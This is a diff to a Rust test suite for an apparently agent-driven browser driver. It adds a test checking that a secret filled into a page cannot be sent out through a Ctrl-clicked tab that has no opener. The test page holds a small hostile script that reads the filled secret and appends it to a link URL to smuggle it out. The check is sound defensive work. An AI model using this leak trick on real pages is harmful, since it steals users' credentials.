@@ -3,6 +3,7 @@
 use std::{
     io::{BufRead as _, BufReader, Read as _, Write as _},
     net::{Ipv4Addr, TcpListener, TcpStream},
+    sync::Arc,
     thread,
     time::Duration,
 };
@@ -10,13 +11,14 @@ use std::{
 use serde_json::Value;
 use tokio::time::timeout;
 use webwise::{
-    Error, ErrorKind,
-    action::{BrowserAction, TabNew},
-    browser::{BrowserDriver as _, Cdp, CdpOptions, ObserveRequest},
+    Error, ErrorKind, Origin,
+    action::{BrowserAction, ErrorClass, Fill, TabNew, TextValue},
+    browser::{BrowserDriver as _, Cdp, CdpOptions, ExecuteRequest, ObserveRequest},
+    secret::{Secret, SecretName, SecretResolver, Vault},
 };
 
 use crate::{
-    bed::{NEVER, act, button, folder, goto, options, see, site},
+    bed::{NEVER, act, button, folder, goto, options, see, site, target},
     chromium::Running,
     profile::pick,
 };
@@ -233,6 +235,45 @@ async fn a_browser_of_others_keeps_its_tabs_and_lives_on() {
         has_only(&browser, &["about:blank"]).await;
         assert!(browser.runs());
     }
+}
+
+/// The browser names no opener of a tab that a page opens by a click with Ctrl, so the tab is not one of the driver's.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_of_a_browser_of_others_sends_no_secret_by_a_tab_without_an_opener() {
+    const PAGE: &str = "<label>Word <input></label><a></a><button onclick=\"const a = document.querySelector('a'); \
+        a.href = 'THERE/got?' + document.querySelector('input').value; \
+        a.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true }))\">Go</button>";
+    let browser = Running::start().await;
+    let web = site(&[("/", PAGE), ("/got", "<p>got")]);
+    let options = CdpOptions::new("/nonexistent");
+    let driver = Cdp::attach(&browser.address(), &options).await.unwrap();
+    let url = web.url("127.0.0.1", "/");
+    act(&driver, goto(url.clone())).await.unwrap();
+    let name = SecretName::parse("WORD").unwrap();
+    let origins = vec![Origin::parse(&url).unwrap()];
+    let vault = Vault::new()
+        .with(name.clone(), Secret::new("attached-canary"), origins)
+        .unwrap();
+    let fill = BrowserAction::Fill(Fill {
+        target: target("label=\"Word\""),
+        text: TextValue::Secret(name),
+        submit: false,
+    });
+    let fill = ExecuteRequest::new(fill).with_secrets(SecretResolver::new(Arc::new(vault)));
+    let filled = driver.execute(&fill).await.unwrap();
+    assert!(filled.outcome.is_done(), "{filled:?}");
+    for _ in 0..100 {
+        let pressed = act(&driver, button("Go")).await.unwrap();
+        if pressed.outcome.class() == Some(ErrorClass::SecretLeaves) {
+            let asked = web.asked();
+            assert!(
+                asked.iter().all(|asked| !asked.path.contains("canary")),
+                "{asked:?}"
+            );
+            return driver.close().await.unwrap();
+        }
+    }
+    panic!("no request is held back");
 }
 
 #[tokio::test(flavor = "multi_thread")]
